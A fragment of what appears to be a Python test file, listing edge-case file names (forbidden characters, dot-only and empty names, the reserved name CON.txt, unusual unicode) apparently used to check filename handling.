        "\u00e9" * 300 + ".xlsx",
        'a<b>c:d"e|f?g*h.pdf',
        "....pdf",
        ". . .docx",
        "..",
        "",
        "   ",
        "CON.txt",
        "cafe\u0301 menu.pdf",  # NFD: e + combining acute
        "trailing dots....csv",
        "line\u2028separator.odt",
    ]


VALID_NAMES = tuple(_valid_writers())
